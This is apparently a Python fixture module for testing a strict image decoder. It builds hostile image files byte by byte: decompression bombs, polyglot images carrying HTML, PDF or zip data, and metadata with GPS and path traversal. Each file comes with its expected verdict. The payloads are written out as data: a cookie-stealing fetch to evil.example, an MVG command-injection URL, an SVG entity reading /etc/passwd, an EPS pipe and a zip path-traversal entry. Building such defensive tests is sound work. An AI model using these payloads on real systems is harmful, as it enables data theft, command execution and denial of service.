"""Pictures made to hurt: each file is built here, byte by byte where no encoder would write it.

`FILES` are those that the strict decoder sees, with its verdict: a code, or "taken" where the pixels are good and only
what hangs on them is not. `MEASURED` are those of the formats that can be measured but are not taken as input.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache, partial
from typing import Any

import numpy as np
from PIL import Image

HTML = b"<html><script>alert(document.domain)</script></html>"
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"
SCRIPT = b"*/=1;fetch('//evil.example/'+document.cookie);/*"
PATH = b"../../../../etc/passwd\0C:\\Windows\\System32"
EVIL = (b"<script", b"document.", b"OpenAction", b"evil.example", b"etc/passwd", b"PK\3\4", b"PK\5\6", b"System32")
"""What no file of ours may hold, whatever came in."""

PLACE = (b"GPS", b"53.5511", b"exif:", b"Exif\0\0", b"SECRETCAMERA", b"photoshop:", b"8BIM", b"Ducky", b"CANARY")
"""Nor any of this."""

Made = Callable[[], bytes]


def saved(image: Image.Image, kind: str, **options: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def product(width: int = 96, height: int = 64, mode: str = "RGB") -> Image.Image:
    image = Image.new("RGB", (width, height), (230, 228, 224))
    image.paste((170, 30, 40), (width // 4, height // 4, width * 3 // 4, height * 3 // 4))
    return image.convert(mode)


def jpg(**options: Any) -> bytes:
    return saved(product(), "JPEG", **options)


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(before: bytes = b"", after: bytes = b"", size: tuple[int, int] = (96, 64), kind: bytes = b"\x08\x02") -> bytes:
    """A whole PNG; `before` and `after` are chunks on either side of its pixels."""
    rows = zlib.compress(bytes((96 * 3 + 1) * 64))
    head = struct.pack(">II", *size) + kind + b"\0\0\0"
    body = chunk(b"IHDR", head) + before + chunk(b"IDAT", rows) + after + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def segment(kind: int, body: bytes) -> bytes:
    return bytes((0xFF, kind)) + struct.pack(">H", len(body) + 2) + body


def with_segments(*parts: bytes) -> bytes:
    data = jpg()
    return data[:2] + b"".join(parts) + data[2:]


def riff(*parts: tuple[bytes, bytes]) -> bytes:
    body = b"WEBP" + b"".join(
        name + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2) for name, data in parts
    )
    return b"RIFF" + struct.pack("<I", len(body)) + body


def webp_frame() -> bytes:
    return saved(product(), "WEBP", quality=80)[20:]


def ifd(tags: int, payload: bytes) -> bytes:
    """A block of EXIF whose tags all claim the same bytes, so that reading it multiplies them."""
    at = 8 + 2 + 12 * tags + 4
    entries = b"".join(struct.pack("<HHII", 0x8000 + tag, 7, len(payload), at) for tag in range(tags))
    return b"II*\0" + struct.pack("<IH", 8, tags) + entries + struct.pack("<I", 0) + payload


def camera() -> Image.Exif:
    """A camera, a place, and a name that is a path."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0131], exif[0x9286] = "SECRETCAMERA", PATH.decode("latin-1"), b"ASCII\0\0\0CANARY"
    exif.get_ifd(0x8825).update({1: "N", 2: (53.5511, 0.0, 0.0), 3: "E", 4: (9.99, 0.0, 0.0)})
    return exif


XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description exif:GPSLatitude="53.5511N" photoshop:City="CANARY"'
    b" crs:RawFileName='../../../../etc/passwd'/>" + HTML + b"</rdf:RDF></x:xmpmeta>"
)


def located(kind: str) -> bytes:
    """All the places where a place can be written."""
    if kind == "jpg":
        data = jpg(exif=camera(), xmp=XMP, comment=b"CANARY 53.5511")
        return data[:2] + segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04CANARY 53.5511") + data[2:]
    if kind == "png":
        text = chunk(b"tEXt", b"Location\x0053.5511 CANARY")
        deflated = chunk(b"zTXt", b"Raw profile type exif\0\0" + zlib.compress(b"\nexif\n  6\n457869660000\nGPS"))
        long = chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + XMP)
        return png(text + deflated + long + chunk(b"eXIf", camera().tobytes()), chunk(b"tEXt", b"Comment\0CANARY"))
    return saved(product(), "WEBP", exif=camera(), xmp=XMP)


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("../../../../etc/passwd", "root::0:0:::")
    return out.getvalue()


def scans(count: int, side: int = 2000) -> bytes:
    """A progressive JPEG whose last scan, some dozens of bytes over the whole picture, comes again and again."""
    data = saved(Image.new("L", (side, side), 90), "JPEG", progressive=True)
    return data[:-2] + data[data.rindex(b"\xff\xda") : -2] * count + data[-2:]


def resized(data: bytes, marker: bytes, width: int, height: int) -> bytes:
    """A JPEG that claims another size."""
    at = data.index(marker) + 5
    return data[:at] + struct.pack(">HH", height, width) + data[at + 4 :]


def moving(kind: str) -> bytes:
    frames = [product(), Image.new("RGB", (96, 64), (1, 2, 3))]
    return saved(frames[0], kind, save_all=True, append_images=frames[1:], duration=50)


def noise(kind: str, **options: Any) -> bytes:
    return saved(Image.effect_noise((256, 256), 90).convert("RGB"), kind, **options)


def flat(kind: str, mode: str, **options: Any) -> bytes:
    """As many pixels as are taken, in hardly any bytes."""
    return saved(Image.new(mode, (8000, 5000), 5 if mode in ("P", "L", "1", "I;16") else None), kind, **options)


def turned() -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112] = 6
    return exif


def icc(size: int) -> bytes:
    """Numbers that begin like a colour profile of this size."""
    return struct.pack(">I", size) + b"lcms\4\x30\0\0mntrRGB XYZ " + bytes(16) + b"acsp" + bytes(max(0, size - 40))


FILES: dict[str, tuple[Made, str]] = {
    # bombs
    "png: 900 megapixels of one bit": (lambda: saved(Image.new("1", (30_000, 30_000)), "PNG"), "too_large"),
    "png: a size of 2**31": (partial(png, size=(2**31 - 1, 2**31 - 1)), "too_large"),
    "png: a size of 0": (partial(png, size=(0, 0)), "truncated"),
    "png: text that swells": (
        lambda: png(chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(90_000_000)))), "truncated"),
    "png: much text that swells": (
        lambda: png(chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(1_000_000))) * 100), "truncated"),
    "png: a profile that swells": (
        lambda: png(chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(90_000_000)))), "truncated"),
    "png: a million chunks": (lambda: png(chunk(b"prIv", b"") * 1_000_000), "too_large"),
    "png: a million chunks of pixels": (lambda: png(chunk(b"IDAT", b"") * 1_000_000), "too_large"),
    "png: a million chunks behind": (lambda: png(after=chunk(b"prIv", b"") * 1_000_000), "too_large"),
    "png: pixels that swell beyond its size": (
        lambda: png().replace(zlib.compress(bytes((96 * 3 + 1) * 64)), zlib.compress(bytes(100_000_000))), "taken"),
    "jpg: 65,000 a side": (lambda: resized(jpg(), b"\xff\xc0", 65_000, 65_000), "too_large"),
    "jpg: a thousand scans": (partial(scans, 1000), "too_large"),
    "jpg: 300,000 scans": (partial(scans, 300_000, 4000), "too_large"),
    "jpg: five million comments": (lambda: with_segments(b"\xff\xfe\0\2" * 5_000_000), "too_large"),
    "webp: 16,384 a side": (
        lambda: riff((b"VP8X", bytes(4) + b"\xff\x3f\0\xff\x3f\0"), (b"VP8 ", webp_frame())), "too_large"),
    "webp: 2**24 a side": (
        lambda: riff((b"VP8X", bytes(4) + b"\xff" * 6), (b"VP8 ", webp_frame())), "too_large"),
    # at the limit: good pictures that cost the most
    "jpg: 40 megapixels, progressive, four inks, turned": (
        lambda: flat("JPEG", "CMYK", progressive=True, exif=turned()), "taken"),
    "jpg: 16 megapixels, nearly fifty scans": (partial(scans, 40, 4000), "taken"),
    "png: 40 megapixels, clear": (lambda: flat("PNG", "RGBA", compress_level=1, exif=turned()), "taken"),
    "png: 40 megapixels of 16 bits": (lambda: flat("PNG", "I;16", compress_level=1), "taken"),
    "webp: 40 megapixels, clear": (lambda: flat("WEBP", "RGBA", lossless=True, quality=0, method=0), "taken"),
    # cut off, and lies
    "nothing": (bytes, "not_an_image"),
    "zeros": (partial(bytes, 5000), "not_an_image"),
    "png: its first bytes": (lambda: png()[:8], "truncated"),
    "png: cut off": (lambda: noise("PNG")[:-2000], "truncated"),
    "png: a wrong checksum": (lambda: png().replace(b"IHDR\0\0\0\x60", b"IHDR\0\0\0\x61"), "truncated"),
    "png: taller than its pixels": (partial(png, size=(96, 1900)), "taken"),
    "png: wider than its pixels": (partial(png, size=(1900, 96)), "truncated"),
    "png: a palette that is not there": (partial(png, kind=b"\x08\x03"), "taken"),
    "png: a colour type that is none": (partial(png, kind=b"\x08\x07"), "truncated"),
    "png: three bits": (partial(png, kind=b"\x03\x02"), "truncated"),
    "png: a chunk longer than the file": (lambda: png(struct.pack(">I", 2**31 - 1) + b"tEXt"), "truncated"),
    "jpg: its first bytes": (lambda: jpg()[:3], "truncated"),
    "jpg: cut off": (lambda: noise("JPEG")[:-3000], "truncated"),
    "jpg: its header ten times as high": (lambda: resized(jpg(), b"\xff\xc0", 96, 640), "taken"),
    "jpg: a segment of no length": (partial(with_segments, b"\xff\xe5\0\0"), "taken"),
    "jpg: seventeen components": (lambda: jpg().replace(b"\xff\xc0\0\x11\x08\0\x40\0\x60\3", b"\xff\xc0\0\x11\x08\0\x40\0\x60\x11"), "truncated"),  # noqa: E501
    "webp: cut off": (lambda: noise("WEBP")[:-900], "truncated"),
    "webp: a length of 2**32": (lambda: b"RIFF\xff\xff\xff\xffWEBPVP8 \xff\xff\xff\xff" + webp_frame(), "truncated"),
    "webp: a box in a box that is none": (lambda: riff((b"VP8X", b"\x10"), (b"ALPH", b"\xff" * 9)), "truncated"),
    "webp: no frame": (lambda: riff((b"VP8X", bytes(4) + b"\x5f\0\0\x3f\0\0")), "truncated"),
    "webp: two animations": (lambda: moving("WEBP") * 2, "animated"),
    "webp: animated": (partial(moving, "WEBP"), "animated"),
    "png: animated": (partial(moving, "PNG"), "animated"),
    # what is not taken
    "gif": (lambda: saved(product(mode="P"), "GIF"), "unsupported_format"),
    "gif: sixty frames": (lambda: moving("GIF"), "unsupported_format"),
    "gif: script": (lambda: b"GIF89a/*" + bytes(20) + SCRIPT, "unsupported_format"),
    "tiff": (lambda: saved(product(), "TIFF", compression="tiff_lzw"), "unsupported_format"),
    "ico: many sizes": (
        lambda: saved(product(256, 256), "ICO", sizes=[(n, n) for n in range(16, 257, 16)]), "unsupported_format"),
    "avif": (lambda: saved(product(), "AVIF"), "unsupported_format"),
    "avif: broken boxes": (lambda: b"\0\0\0\x20ftypavif\xff\xff\xff\xffmeta" + bytes(99), "unsupported_format"),
    "heic": (lambda: b"\0\0\0\x18ftypheic" + bytes(99), "unsupported_format"),
    "jpeg 2000": (lambda: saved(product(), "JPEG2000"), "not_an_image"),
    "psd": (lambda: b"8BPS\0\1" + bytes(99), "unsupported_format"),
    "eps": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file", "unsupported_format"),
    "pdf": (lambda: PDF, "unsupported_format"),
    "svg: reads a file": (
        lambda: b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
        "unsupported_format"),
    "svg: a billion laughs": (
        lambda: b'<!DOCTYPE s [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><svg>&b;</svg>', "not_an_image"),
    "html": (lambda: HTML, "not_an_image"),
    "zip": (zipped, "not_an_image"),
    "mvg": (lambda: b"push graphic-context\nfill 'url(https://evil.example/|id)'", "not_an_image"),
    # too small, too thin
    "png: one pixel": (lambda: saved(Image.new("RGB", (1, 1)), "PNG"), "too_small"),
    "png: a needle": (lambda: saved(Image.new("RGB", (8000, 65)), "PNG"), "bad_ratio"),
    # metadata that is too much
    "jpg: a huge profile": (lambda: jpg(icc_profile=icc(4_000_000)), "taken"),
    "webp: a huge profile": (lambda: saved(product(), "WEBP", icc_profile=icc(8_000_000)), "taken"),
    "png: a profile of nonsense": (lambda: png(chunk(b"iCCP", b"a\0\0" + zlib.compress(b"x" * 999))), "taken"),
    "jpg: a profile of four inks for three": (
        lambda: jpg(icc_profile=icc(200).replace(b"RGB ", b"CMYK")), "taken"),
    "png: 600 tags that share 2 MB": (lambda: png(chunk(b"eXIf", ifd(600, bytes(2_000_000)))), "taken"),
    "webp: 600 tags that share 2 MB": (
        lambda: saved(product(), "WEBP", exif=ifd(600, bytes(2_000_000))), "taken"),
    "jpg: tags that point at themselves": (
        lambda: jpg(exif=b"Exif\0\0II*\0\x08\0\0\0\1\0\x69\x87\4\0\1\0\0\0\x08\0\0\0\x08\0\0\0"), "taken"),
    "png: an orientation that is none": (
        lambda: png(chunk(b"eXIf", b"II*\0\x08\0\0\0\1\0\x12\1\3\0\1\0\0\0\xff\xff\0\0\0\0\0\0")), "taken"),
    "jpg: 16 MB of xmp": (
        lambda: with_segments(*[segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + b"x" * 65_000)] * 250), "taken"),
    "png: half clear, of a palette": (
        lambda: saved(product(mode="P"), "PNG", transparency=bytes([9, 99, 200])), "taken"),
    "jpg: four inks, inverted by Adobe": (lambda: saved(product(mode="CMYK"), "JPEG"), "taken"),
    # two files in one
    "jpg: and html": (lambda: jpg() + HTML, "taken"),
    "jpg: and zip": (lambda: jpg() + zipped(), "taken"),
    "jpg: and pdf": (lambda: jpg() + PDF, "taken"),
    "jpg: a script in its comment": (lambda: jpg(comment=SCRIPT + HTML), "taken"),
    "jpg: a pdf in its first segment": (lambda: with_segments(segment(0xE0, PDF)), "taken"),
    "png: and html": (lambda: png() + HTML, "taken"),
    "png: and zip": (lambda: png() + zipped(), "taken"),
    "png: a script in its text": (lambda: png(chunk(b"tEXt", b"Comment\0" + HTML)), "taken"),
    "png: a page in chunks of its own": (lambda: png(chunk(b"htMl", HTML), chunk(b"htMl", SCRIPT)), "taken"),
    "png: a script in its pixels": (
        lambda: saved(Image.frombytes("RGB", (96, 64), (HTML * 400)[: 96 * 64 * 3]), "PNG", compress_level=0), "taken"),
    "webp: and html": (lambda: saved(product(), "WEBP") + HTML, "taken"),
    "webp: and zip": (lambda: saved(product(), "WEBP") + zipped(), "taken"),
    "webp: a chunk of its own": (
        lambda: riff((b"VP8X", bytes(4) + b"\x5f\0\0\x3f\0\0"), (b"VP8 ", webp_frame()), (b"EVIL", HTML)), "taken"),
    # where it was taken
    "jpg: a place": (partial(located, "jpg"), "taken"),
    "png: a place": (partial(located, "png"), "taken"),
    "webp: a place": (partial(located, "webp"), "taken"),
}  # fmt: skip


def gif(*blocks: bytes) -> bytes:
    data = saved(product(mode="P"), "GIF")
    at = 13 + 3 * (2 << (data[10] & 7))
    return data[:at] + b"".join(blocks) + data[at:]


def bmp(width: int, height: int) -> bytes:
    data = saved(product(), "BMP")
    return data[:18] + struct.pack("<ii", width, height) + data[26:]


def tiff(tags: int, payload: bytes) -> bytes:
    """A TIFF with more tags, which all claim the same bytes."""
    data = saved(product(), "TIFF")
    at = struct.unpack("<I", data[4:8])[0]
    (count,) = struct.unpack("<H", data[at : at + 2])
    own = data[at + 2 : at + 2 + 12 * count]
    more = b"".join(struct.pack("<HHII", 0x9000 + tag, 7, len(payload), len(data)) for tag in range(tags))
    where = len(data) + len(payload)
    table = struct.pack("<H", count + tags) + own + more + struct.pack("<I", where)  # and again, for ever
    return data[:4] + struct.pack("<I", where) + data[8:] + payload + table


MEASURED: dict[str, tuple[Made, str]] = {
    "gif: one frame": (gif, "taken"),
    "gif: four million extensions": (lambda: gif(b"!\xf9\0" * 4_000_000), "too_large"),
    "gif: a comment of five million blocks": (lambda: gif(b"!\xfe" + b"\1x" * 5_000_000 + b"\0"), "too_large"),
    "gif: junk between its blocks": (lambda: gif(b"\x01" * 5_000_000), "too_large"),
    "gif: a screen of 65,535": (lambda: saved(product(mode="P"), "GIF")[:6] + b"\xff" * 4 + gif()[10:], "too_large"),
    "gif: a frame larger than its screen": (
        lambda: gif().replace(b",\0\0\0\0\x60\0\x40\0", b",\0\0\0\0\xff\xff\xff\xff"), "too_large"),
    "gif: cut off": (lambda: noise("GIF")[:-5000], "truncated"),
    "tiff: 600 tags that share 2 MB": (partial(tiff, 600, bytes(2_000_000)), "truncated"),
    "tiff: a list of pictures without an end": (partial(tiff, 0, b""), "taken"),
    "tiff: 144 megapixels": (
        lambda: saved(Image.new("L", (12_000, 12_000)), "TIFF", compression="tiff_adobe_deflate"), "too_large"),
    "tiff: cut off": (lambda: noise("TIFF", compression="tiff_lzw")[:-9000], "truncated"),
    "tiff: floats": (
        lambda: saved(Image.fromarray(np.zeros((64, 64), np.float32)), "TIFF"), "unsupported_format"),
    "bmp: 20,000 a side": (
        partial(bmp, 20_000, 20_000), "too_large"),
    "bmp: a height below nothing": (
        partial(bmp, 96, -(2**31)), "too_large"),
    "bmp: cut off": (lambda: saved(product(), "BMP")[:-500], "truncated"),
}  # fmt: skip


@cache
def made(name: str) -> bytes:
    """A file, made once: some take seconds."""
    return FILES[name][0]()
